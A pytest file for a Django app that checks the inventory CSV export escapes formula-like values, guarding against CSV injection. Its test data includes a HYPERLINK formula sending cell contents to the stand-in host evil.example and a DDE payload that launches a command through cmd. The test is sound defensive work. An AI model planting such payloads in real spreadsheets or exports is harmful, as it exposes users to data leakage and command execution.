"""The inventory's CSV export shows formula-like values as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


def test_inventory_export_neutralises_formula_cells(owner: Any, make_integration: Any, web_as: Any) -> None:
    make_integration(owner, name=FORMULA, vendor="@SUM(1+1)*cmd|' /C calc'!A0")
    response = web_as(owner).get(reverse("inventory:list"), {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [(r["name"], r["vendor"]) for r in rows] == [("'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0")]
